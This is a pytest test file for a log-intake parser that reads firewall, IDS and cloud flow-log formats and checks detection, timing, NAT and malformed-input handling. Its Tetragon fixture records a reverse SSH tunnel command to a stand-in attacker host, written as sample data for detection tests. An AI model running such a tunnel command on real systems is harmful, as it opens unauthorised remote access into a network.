"""Each format, by lines as its product writes them; what is expected was read off the product's documentation."""

from __future__ import annotations

import bz2
import gzip
import hashlib
import json
import lzma
import os
import socket
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import zstandard

from ray_guard.attribution.intake import Intake, Options
from ray_guard.attribution.observation import Action, Semantics
from ray_guard.attribution.sources import FORMATS
from ray_guard.attribution.sources.reader import FileReport, NotAlerts, Record, files, read
from ray_guard.attribution.times import iso

AT = iso("2026-03-07T03:40:11Z", Semantics.PACKET).start_ns
SECOND = 1_000_000_000

SURICATA = {
    "timestamp": "2026-03-07T03:40:11.123456+0000",
    "flow_id": 1577201927231347,
    "in_iface": "eth0",
    "event_type": "alert",
    "src_ip": "10.0.0.5",
    "src_port": 44318,
    "dest_ip": "198.51.100.7",
    "dest_port": 22,
    "proto": "TCP",
    "alert": {
        "action": "blocked",
        "gid": 1,
        "signature_id": 2003068,
        "rev": 7,
        "signature": "ET SCAN Potential SSH Scan OUTBOUND",
        "category": "Attempted Information Leak",
        "severity": 2,
    },
}
SYSLOG = (
    "Mar  7 03:40:11 node-3 kernel: [123456.789012] EGRESS-DENY: IN= OUT=eth0 SRC=10.0.0.5 DST=198.51.100.7 LEN=60 "
    "TOS=0x00 PREC=0x00 TTL=64 ID=4242 DF PROTO=TCP SPT=44318 DPT=22 WINDOW=64240 RES=0x00 SYN URGP=0 UID=1000 GID=1000"
)
PANOS = (
    "Mar  7 03:40:12 fw-1 1,2026/03/07 03:40:12,012801096514,TRAFFIC,end,2049,2026/03/07 03:40:12,10.0.0.5,"
    "198.51.100.7,203.0.113.9,198.51.100.7,"
    '"Deny ""all"", really",,,ssh,vsys1,trust,untrust,ethernet1/2,ethernet1/1,fwd,'
    "2026/03/07 03:40:12,22751,1,44318,22,16418,22,0x400053,tcp,deny,7734,1758,5976,36,2026/03/07 03:40:01,10,any,0,"
    "32091112,0x0,10.0.0.0-10.255.255.255,United States,0,16,20,policy-deny"
)
FORTIGATE = (
    'date=2026-03-07 time=04:40:11 devname="fw-2" devid="FGVM1" eventtime=1772854811123456789 tz="+0100" '
    'logid="0000000013" type="traffic" subtype="forward" level="notice" srcip=10.0.0.5 srcport=44318 '
    'dstip=198.51.100.7 dstport=22 sessionid=9001 proto=6 action="deny" policyid=12 trandisp="snat" '
    "transip=203.0.113.9 transport=61000 duration=7 sentbyte=1758 rcvdbyte=5976"
)
AZURE = {
    "records": [
        {
            "time": "2026-03-07T03:41:00.0000000Z",
            "macAddress": "000D3AF87856",
            "category": "NetworkSecurityGroupFlowEvent",
            "properties": {
                "Version": 2,
                "flows": [
                    {
                        "rule": "DefaultRule_DenyAllOutBound",
                        "flows": [
                            {
                                "mac": "000D3AF87856",
                                "flowTuples": ["1772854811,10.0.0.5,198.51.100.7,44318,22,T,O,D,B,,,,"],
                            }
                        ],
                    }
                ],
            },
        }
    ]
}
VNET = {
    "records": [
        {
            "time": "2026-03-07T03:41:00.00Z",
            "macAddress": "00224871C205",
            "category": "FlowLogFlowEvent",
            "flowRecords": {
                "flows": [
                    {
                        "aclID": "a",
                        "flowGroups": [
                            {
                                "rule": "BlockAll",
                                "flowTuples": ["1772854811123,10.0.0.5,198.51.100.7,44318,22,6,O,D,NX,1,60,0,0"],
                            }
                        ],
                    }
                ]
            },
        }
    ]
}
ZEEK = (
    "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n"
    "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\n"
    "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\n"
    "1772854811.123456\tCx1\t10.0.0.5\t44318\t198.51.100.7\t22\ttcp\t-\t12.5\t1758\t5976\n"
)
VPC = (
    "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action "
    "log-status pkt-srcaddr pkt-dstaddr flow-direction\n"
    "5 123456789010 eni-1235b8ca 10.0.0.220 198.51.100.7 44318 22 6 20 4249 1772854811 1772854869 REJECT OK "
    "10.0.0.5 198.51.100.7 egress\n"
    "5 123456789010 eni-1235b8ca - - - - - - - 1772854811 1772854869 - NODATA - - -\n"
)
TETRAGON = {
    "process_kprobe": {
        "process": {
            "exec_id": "bm9kZTox",
            "pid": 3120,
            "uid": 1000,
            "binary": "/usr/bin/ssh",
            "arguments": "-fNR 2222:localhost:22 mallory@198.51.100.7",
            "pod": {"namespace": "rl", "container": {"id": "containerd://abc"}},
        },
        "parent": {"pid": 3119, "binary": "/bin/bash"},
        "function_name": "tcp_connect",
        "args": [
            {
                "sock_arg": {
                    "family": "AF_INET",
                    "protocol": "IPPROTO_TCP",
                    "saddr": "10.0.0.5",
                    "daddr": "198.51.100.7",
                    "sport": 44318,
                    "dport": 22,
                }
            }
        ],
        "action": "KPROBE_ACTION_SIGKILL",
        "policy_name": "egress",
    },
    "node_name": "node-3",
    "time": "2026-03-07T03:40:11.123456789Z",
}
FALCO = {
    "hostname": "node-3",
    "output": "03:40:11: Warning Outbound connection (command=ssh -R) connection=10.0.0.5:44318->198.51.100.7:22",
    "priority": "Warning",
    "rule": "Disallowed SSH Connection",
    "source": "syscall",
    "time": "2026-03-07T03:40:11.123456789Z",
    "output_fields": {
        "evt.time.iso8601": 1772854811123456789,
        "proc.cmdline": "ssh -R",
        "proc.pid": 3120,
        "container.id": "abc",
        "fd.name": "10.0.0.5:44318->198.51.100.7:22",
        "fd.l4proto": "tcp",
    },
}
HUBBLE = {
    "flow": {
        "time": "2026-03-07T03:40:11.123456789Z",
        "verdict": "DROPPED",
        "IP": {"source": "10.0.0.5", "destination": "198.51.100.7", "ipVersion": "IPv4"},
        "l4": {"TCP": {"source_port": 44318, "destination_port": 22, "flags": {"SYN": True}}},
        "source": {"namespace": "rl", "pod_name": "worker-0"},
        "drop_reason_desc": "POLICY_DENIED",
        "node_name": "node-3",
    },
    "node_name": "node-3",
    "time": "2026-03-07T03:40:11.123456789Z",
}
GCP = {
    "insertId": "x",
    "timestamp": "2026-03-07T03:40:11.123456789Z",
    "logName": "projects/p/logs/compute.googleapis.com%2Ffirewall",
    "jsonPayload": {
        "connection": {
            "src_ip": "10.0.0.5",
            "src_port": 44318,
            "dest_ip": "198.51.100.7",
            "dest_port": 22,
            "protocol": 6,
        },
        "disposition": "DENIED",
        "rule_details": {"reference": "network:default/firewall:no-egress"},
        "instance": {"vm_name": "node-3"},
    },
}
ALIBABA = {
    "__time__": "1772854900",
    "__topic__": "cloudfirewall_access_log",
    "acl_rule_id": "073a1475-6e11-43e2-8b28-98cee9c60000",
    "direction": "out",
    "domain": "",
    "src_ip": "10.0.0.5",
    "src_port": "44318",
    "dst_ip": "198.51.100.7",
    "dst_port": "22",
    "ip_protocol": "tcp",
    "start_time": "1772854811",
    "end_time": "1772854830",
    "rule_result": "drop",
    "in_packet_bytes": "5976",
    "out_packet_bytes": "1758",
    "cloud_instance_id": "node-3",
}
AWS_FIREWALL = {
    "firewall_name": "egress-fw",
    "availability_zone": "us-east-1a",
    "event_timestamp": "1772854811",
    "event": {**SURICATA, "timestamp": "2026-03-07T03:40:11.123456+0000"},
}

SAMPLES: dict[str, tuple[str, str]] = {
    "suricata": ("suricata", json.dumps(SURICATA)),
    "suricata behind syslog": ("suricata", "Mar  7 03:40:12 ids suricata[911]: " + json.dumps(SURICATA)),
    "suricata in a collector's envelope": (
        "suricata",
        json.dumps({"@timestamp": "x", "message": json.dumps(SURICATA)}),
    ),
    "aws-firewall": ("aws-firewall", json.dumps(AWS_FIREWALL)),
    "zeek": ("zeek", ZEEK),
    "zeek json": (
        "zeek",
        json.dumps(
            {"ts": 1772854811.123456, "uid": "Cx1", "id.orig_h": "10.0.0.5", "id.orig_p": 44318}
            | {"id.resp_h": "198.51.100.7", "id.resp_p": 22, "proto": "tcp", "duration": 12.5}
        ),
    ),
    "zeek json, flattened": (
        "zeek",
        json.dumps(
            {"ts": "2026-03-07T03:40:11.123456Z", "uid": "Cx1", "id_orig_h": "10.0.0.5", "id_orig_p": 44318}
            | {"id_resp_h": "198.51.100.7", "id_resp_p": 22, "proto": "tcp"}
        ),
    ),
    "nftables": ("nftables", SYSLOG),
    "nftables without uptime": ("nftables", SYSLOG.replace("[123456.789012] ", "")),
    "nftables with RFC 3339": ("nftables", SYSLOG.replace("Mar  7 03:40:11", "2026-03-07T03:40:11.123456+00:00")),
    "ulogd json": (
        "nftables",
        json.dumps(
            {"timestamp": "2026-03-07T03:40:11.123456+0000", "dvc": "Netfilter", "oob.prefix": "EGRESS-DENY: "}
            | {"src_ip": "10.0.0.5", "src_port": 44318, "dest_ip": "198.51.100.7", "dest_port": 22, "ip.protocol": 6}
        ),
    ),
    "aws-vpc": ("aws-vpc", VPC),
    "gcp-vpc": ("gcp-vpc", json.dumps(GCP)),
    "azure-flow": ("azure-flow", json.dumps(AZURE)),
    "azure-flow, virtual network": ("azure-flow", json.dumps(VNET)),
    "azure-flow, pretty": ("azure-flow", json.dumps(VNET, indent=2)),
    "alibaba-firewall": ("alibaba-firewall", json.dumps(ALIBABA)),
    "hubble": ("hubble", json.dumps(HUBBLE)),
    "hubble, the flow alone": ("hubble", json.dumps(HUBBLE["flow"])),
    "falco": ("falco", json.dumps(FALCO)),
    "falco, integer times": ("falco", json.dumps(FALCO | {"time": 1772854811123456789})),
    "tetragon": ("tetragon", json.dumps(TETRAGON)),
    "tetragon in a container's log": ("tetragon", "2026-03-07T03:40:12Z stdout F " + json.dumps(TETRAGON)),
    "panos": ("panos", PANOS),
    "fortigate": ("fortigate", FORTIGATE),
    "fortigate, seconds": ("fortigate", FORTIGATE.replace("1772854811123456789", "1772854811")),
    "fortigate, no eventtime": ("fortigate", FORTIGATE.replace("eventtime=1772854811123456789 ", "")),
    "an array of events": ("suricata", json.dumps([SURICATA], indent=1)),
}


Pack = Callable[[bytes], bytes]


def records(tmp_path: Path, content: str | bytes, forced: str | None = None) -> tuple[list[Record], FileReport]:
    path = tmp_path / "log"
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    report = FileReport(str(path))
    return list(read(path, report, forced)), report


@pytest.mark.parametrize("sample", SAMPLES)
def test_a_sample_is_read_by_its_own_format(tmp_path: Path, sample: str) -> None:
    kind, content = SAMPLES[sample]
    found, report = records(tmp_path, content)
    assert report.quarantined.total() == 0, report.first
    (record,) = found
    seen = record.seen
    assert record.format == kind
    assert (seen.src, seen.dst, seen.proto) == (("10.0.0.5", 44318), ("198.51.100.7", 22), "tcp") or kind == "falco"
    assert seen.dst == ("198.51.100.7", 22)
    begin = (
        seen.time.start_ns
        if seen.time.dated
        else seen.time.start_ns + iso("2026-01-01T00:00:00Z", seen.time.semantics).start_ns
    )
    assert abs(begin - AT) <= 11 * SECOND
    assert seen.time.end_ns > seen.time.start_ns
    assert seen.informational == (kind == "zeek")
    if kind not in ("zeek", "falco"):
        assert seen.action is Action.DENIED


def test_every_format_of_the_contract_has_a_sample() -> None:
    contract = "suricata zeek nftables aws-vpc aws-firewall gcp-vpc azure-flow alibaba-firewall hubble falco tetragon"
    contract += " panos fortigate"
    assert set(FORMATS) == set(contract.split()) == {kind for kind, _ in SAMPLES.values()}


@pytest.mark.parametrize(
    ("sample", "start", "end", "semantics"),
    [
        ("suricata", 123_456_000, 123_457_000, Semantics.PACKET),
        ("zeek", 123_456_000, 12_623_457_000, Semantics.FLOW),
        ("aws-vpc", 0, 59 * SECOND, Semantics.WINDOW),
        ("gcp-vpc", 123_456_789, 123_456_790, Semantics.PACKET),
        ("azure-flow", 0, SECOND, Semantics.PACKET),
        ("azure-flow, virtual network", 123_000_000, 124_000_000, Semantics.PACKET),
        ("alibaba-firewall", 0, 20 * SECOND, Semantics.FLOW),
        ("falco", 123_456_789, 123_456_790, Semantics.PACKET),
        ("panos", -10 * SECOND, 2 * SECOND, Semantics.FLOW),
        ("fortigate", -7 * SECOND + 123_456_789, 123_456_790, Semantics.FLOW),
        ("fortigate, no eventtime", -7 * SECOND, SECOND, Semantics.FLOW),
    ],
)
def test_a_time_is_the_interval_that_the_log_says(
    tmp_path: Path, sample: str, start: int, end: int, semantics: Semantics
) -> None:
    (record,), _ = records(tmp_path, SAMPLES[sample][1])
    time = record.seen.time
    assert (time.start_ns - AT, time.end_ns - AT, time.semantics) == (start, end, semantics)


def test_what_a_log_does_not_say_of_its_time_is_marked(tmp_path: Path) -> None:
    (record,), _ = records(tmp_path, SYSLOG)
    assert not record.seen.time.zoned
    assert not record.seen.time.dated
    (record,), _ = records(tmp_path, PANOS)
    assert not record.seen.time.zoned
    assert record.seen.time.dated


def test_a_zone_that_pan_os_says_elsewhere_counts_for_its_other_times(tmp_path: Path) -> None:
    (record,), _ = records(tmp_path, PANOS + ",2026-03-07T03:40:12.000+08:00")
    assert record.seen.time.zoned
    assert record.seen.time.start_ns == AT - 10 * SECOND - 8 * 3600 * SECOND


def test_nat_maps_within_records(tmp_path: Path) -> None:
    (record,), _ = records(tmp_path, PANOS)
    assert record.seen.translated_src == ("203.0.113.9", 16418)
    assert record.seen.rule == 'Deny "all", really'
    (record,), _ = records(tmp_path, FORTIGATE)
    assert record.seen.translated_src == ("203.0.113.9", 61000)
    (record,), _ = records(tmp_path, VPC)
    assert record.seen.translated_src == ("10.0.0.220", 44318)


def test_the_kernel_witnesses_name_the_process(tmp_path: Path) -> None:
    (record,), _ = records(tmp_path, json.dumps(TETRAGON))
    process = record.seen.process
    assert (process.pid, process.parent_pid, process.exec_id, process.container) == (3120, 3119, "bm9kZTox", "abc")
    assert process.command == "/usr/bin/ssh -fNR 2222:localhost:22 mallory@198.51.100.7"
    camel = {"processExec": {"process": {"execId": "e", "pid": 7, "binary": "/bin/sh"}}, "nodeName": "n"}
    (record,), _ = records(tmp_path, json.dumps(camel | {"time": "2026-03-07T03:40:11Z"}))
    assert (record.seen.process.exec_id, record.seen.node) == ("e", "n")


@pytest.mark.parametrize(
    ("kind", "change"),
    [
        ("alibaba", {"acl_rule_id": "00000000-0000-0000-0000-000000000000", "rule_result": "pass"}),
        ("suricata", {"event_type": "flow", "alert": None}),
        ("gcp", {}),
    ],
)
def test_an_ordinary_flow_is_informational(tmp_path: Path, kind: str, change: dict[str, Any]) -> None:
    allowed: dict[str, Any] = {
        "alibaba": ALIBABA | change,
        "suricata": {key: value for key, value in (SURICATA | change).items() if value is not None},
        "gcp": GCP | {"jsonPayload": GCP["jsonPayload"] | {"disposition": "ALLOWED"}},  # type: ignore[operator]
    }[kind]
    (record,), _ = records(tmp_path, json.dumps(allowed))
    assert record.seen.informational


def test_offsets_records_and_quarantine_of_a_mixed_file(tmp_path: Path) -> None:
    good = json.dumps(SURICATA)
    lines = [
        good,
        SYSLOG,
        '{"event_type": "alert", "timest',
        "",
        good.replace("03:40:11.1", "27:40:11.1"),
        FORTIGATE,
        "\x00\x01",
        "hello",
    ]
    content = "\n".join(lines) + "\n" + good[:50]
    found, report = records(tmp_path, content)
    assert [(each.format, each.record) for each in found] == [("suricata", 0), ("nftables", 1), ("fortigate", 2)]
    assert [each.raw.decode() for each in found] == [good, SYSLOG, FORTIGATE]
    assert all(content.encode()[each.byte_offset :].startswith(each.raw) for each in found)
    assert report.quarantined == {"malformed": 2, "time": 1, "binary": 1, "unknown": 1}
    assert [each.line for each in report.first] == [3, 5, 7, 8, 9]


PACKS: list[Pack] = [
    *(gzip.compress, zstandard.compress, bz2.compress, lzma.compress, bytes),
    lambda data: gzip.compress(gzip.compress(data)),
    lambda data: b"".join(map(gzip.compress, data.splitlines(keepends=True))) + bytes(512),
    lambda data: b"\x50\x2a\x4d\x18\x04\0\0\0skip" + b"".join(map(zstandard.compress, data.splitlines(keepends=True))),
    lambda data: b"\xff\xfe" + data.decode().encode("utf-16-le"),
    lambda data: b"\xfe\xff" + data.decode().encode("utf-16-be"),
]


@pytest.mark.parametrize("pack", PACKS)
def test_packed_files_keep_their_own_hash(tmp_path: Path, pack: Pack) -> None:
    content = pack((json.dumps(SURICATA) + "\n").encode() * 3)
    found, report = records(tmp_path, content)
    assert len(found) == 3
    assert report.sha256 == hashlib.sha256(content).hexdigest()


@pytest.mark.parametrize("pack", [gzip.compress, zstandard.compress, bz2.compress, lzma.compress])
def test_a_packed_file_that_ends_too_early_keeps_what_it_had(tmp_path: Path, pack: Pack) -> None:
    lines = [json.dumps(SURICATA | {"flow_id": os.urandom(64).hex()}) for _ in range(4_000)]
    content = pack("\n".join(lines).encode())
    found, report = records(tmp_path, content[: len(content) * 3 // 4])
    assert found
    assert report.quarantined["unreadable"] == 1


def test_what_follows_a_packed_file_is_counted(tmp_path: Path) -> None:
    found, report = records(tmp_path, gzip.compress((json.dumps(SURICATA) + "\n").encode()) + b"garbage")
    assert len(found) == 1
    assert report.quarantined == {"unreadable": 1}


def test_rows_of_parquet_are_records(tmp_path: Path) -> None:
    row = {"version": 2, "interface_id": "eni-1", "srcaddr": "10.0.0.5", "dstaddr": "198.51.100.7", "srcport": 44318}
    row |= {"dstport": 22, "protocol": 6, "start": 1772854811, "end": 1772854869, "action": "REJECT"}
    pq.write_table(pa.Table.from_pylist([row, row]), tmp_path / "rows")
    content = (tmp_path / "rows").read_bytes()
    found, report = records(tmp_path, content)
    assert [(each.format, each.seen.src.port, each.seen.action) for each in found] == [("aws-vpc", 44318, "denied")] * 2
    assert report.sha256 == hashlib.sha256(content).hexdigest()
    found, report = records(tmp_path, content[:-20])
    assert (found, report.quarantined) == ([], {"unreadable": 1})


EVE, FLOW = json.dumps(SURICATA), VPC.splitlines()[1].rsplit(" ", 3)[0].replace("5 1", "2 1", 1)
LOGGED = {"id": "1", "timestamp": 1772854811000, "message": FLOW}
SUBSCRIBED = {"messageType": "DATA_MESSAGE", "logGroup": "g", "logEvents": [LOGGED, LOGGED]}
COLLECTED = {"resourceLogs": [{"scopeLogs": [{"logRecords": [{"body": {"stringValue": EVE}}]}]}]}


@pytest.mark.parametrize(
    ("content", "count", "quarantined"),
    [
        ("\ufeff" + EVE + "\r\n" + EVE + "\r\n", 2, {}),
        ("\ufeff" + VPC, 1, {}),
        (EVE + "\0\n" + "\0" * 4096 + EVE + "\n" + "\0" * 4096, 2, {"binary": 1}),
        ("\ufeff", 0, {"unknown": 1}),
        ("\n \r\n", 0, {}),
        (json.dumps({"Records": [SURICATA, FALCO]}), 2, {}),
        (json.dumps({"records": [GCP, GCP], "count": 2}, indent=2), 2, {}),
        (json.dumps({"@odata.context": "x", "value": [HUBBLE, TETRAGON]}, indent=1), 2, {}),
        (json.dumps([SURICATA, FALCO, None, 7, EVE]), 3, {"unknown": 2}),
        (json.dumps([[SURICATA], [FALCO]]), 2, {}),
        (json.dumps(SUBSCRIBED) * 2, 4, {}),
        (json.dumps(SUBSCRIBED) + "\n" + json.dumps(SUBSCRIBED | {"logEvents": []}) + "\n", 2, {"unknown": 1}),
        (json.dumps({"events": [LOGGED, LOGGED], "nextForwardToken": "f"}, indent=4), 2, {}),
        (json.dumps(COLLECTED), 1, {}),
        (EVE + EVE + " " + EVE, 3, {}),
        (EVE + ",\n" + EVE + ",\n", 2, {}),
        ("\x1e" + EVE + "\n\x1e" + EVE + "\n", 2, {}),
        ("\n".join([json.dumps(SURICATA, indent=2), SYSLOG, json.dumps(FALCO, indent="\t"), EVE]), 4, {}),
        (json.dumps(SURICATA, indent=2) * 3, 3, {}),
        (json.dumps(SURICATA, indent=0), 1, {}),
        ("[" + EVE + ",\n" + EVE + ",\n", 2, {"malformed": 1}),
        ("[\n" + EVE + ",\n" + EVE[:90] + ",\n" + EVE + "\n]\n", 2, {"malformed": 1, "unknown": 1}),
        (EVE[:90] + "\n" + EVE + "\n" + EVE[:-1] + "\n" + EVE, 2, {"malformed": 2}),
        (json.dumps({"message": AWS_FIREWALL}), 1, {}),
        (json.dumps({"message": json.dumps({"log": EVE})}), 1, {}),
        (json.dumps({"_index": "i", "_source": SURICATA}), 1, {}),
        (json.dumps({"hits": {"total": 2, "hits": [{"_source": SURICATA}, {"_source": FALCO}]}}), 2, {}),
        (json.dumps({"a": {"message": "x"}, "message": "nothing known"}), 0, {"unknown": 1}),
        ("[" * 5000, 0, {"malformed": 1}),
    ],
)
def test_json_that_does_not_keep_to_lines(
    tmp_path: Path, content: str, count: int, quarantined: dict[str, int]
) -> None:
    found, report = records(tmp_path, content)
    assert (len(found), dict(report.quarantined)) == (count, quarantined), report.first
    assert [each.record for each in found] == list(range(count))
    assert len({each.byte_offset for each in found}) == count or "stringValue" in content
    assert all(each.seen.dst == ("198.51.100.7", 22) for each in found)
    written = content.encode()
    assert all(each.raw in written[each.byte_offset : each.byte_offset + len(each.raw) + 2] for each in found)
    assert all(written.count(b"\n", 0, each.byte_offset) == each.line - 1 for each in report.first)


@pytest.mark.timeout(60)  # what is quadratic takes hours
@pytest.mark.parametrize(
    ("head", "each", "tail", "count"),
    [
        (b"[", EVE.encode() + b",", b"", 45_000),  # more than a line may have
        (b"", json.dumps(SURICATA, indent=2).encode() + b"\nhello\n", b"", 3_000),
        (b"", b'{"a":\n', b"", 0),
        (b"", b'{"a" x\n', b"", 0),
        (b"", b"[\n", b"", 0),
        (b'{"a":"', b"x" * 1000, b"", 0),
    ],
)
def test_documents_of_any_size_take_as_long_as_they_are(
    tmp_path: Path, head: bytes, each: bytes, tail: bytes, count: int
) -> None:
    found, report = records(tmp_path, head + each * (count or 20_000) + tail)
    assert len(found) == count
    assert report.quarantined.total() > 0


def test_a_folder_is_read_to_its_ends(tmp_path: Path) -> None:
    folder = tmp_path / "logs"
    (folder / "deep" / "er").mkdir(parents=True)
    (folder / "deep" / "er" / "eve.json").write_text(EVE)
    (folder / "eve.json.1.gz").write_bytes(gzip.compress(EVE.encode()))
    (folder / ".hidden").write_text(EVE)
    (folder / "gone").symlink_to("/nowhere")
    os.mkfifo(folder / "pipe")
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(os.path.relpath(folder / "socket"))
        logs = Intake()
        assert list(logs.read([folder], Options(), (0, 0)))[-1] == 2
        with pytest.raises(NotAlerts, match="cannot be read"):
            list(Intake().read([folder / "socket"], Options(), (0, 0)))
    with pytest.raises(NotAlerts, match="not a regular file"):
        list(Intake().read([folder / "pipe"], Options(), (0, 0)))
    unread = {Path(each.path).name: each.report.first[0].detail for each in logs.sources if not each.records}
    assert unread.keys() == {"gone", "pipe", "socket"}
    assert all(detail.startswith("cannot be read: ") for detail in unread.values())


def test_tuples_of_a_pretty_document_stand_where_they_are(tmp_path: Path) -> None:
    (record,), _ = records(tmp_path, SAMPLES["azure-flow, pretty"][1])
    line = (tmp_path / "log").read_bytes()[record.byte_offset :].split(b"\n")[0]
    assert line.strip().startswith(b'"1772854811123,')


def test_epochs_of_every_unit_are_told_apart(tmp_path: Path) -> None:
    for unit in ("1772854811", "1772854811000", "1772854811000000", "1772854811000000000"):
        (record,), _ = records(tmp_path, json.dumps(ALIBABA | {"start_time": unit, "end_time": ""}))
        assert record.seen.time.start_ns == AT


def test_a_duplicate_key_does_not_cost_the_record(tmp_path: Path) -> None:
    text = json.dumps(AWS_FIREWALL)[:-1] + ', "firewall_name": "again"}'
    (record,), report = records(tmp_path, text)
    assert record.seen.node == "again"
    assert not report.quarantined


def test_a_forced_format_quarantines_everything_else(tmp_path: Path) -> None:
    found, report = records(tmp_path, json.dumps(SURICATA) + "\n" + SYSLOG + "\n", "nftables")
    assert [each.format for each in found] == ["nftables"]
    assert report.quarantined.total() == 1


def test_an_empty_file_and_no_file(tmp_path: Path) -> None:
    assert records(tmp_path, b"")[0] == []
    with pytest.raises(NotAlerts, match="no such file"):
        files(tmp_path / "missing")
    (tmp_path / "folder").mkdir()
    with pytest.raises(NotAlerts, match="without files"):
        files(tmp_path / "folder")
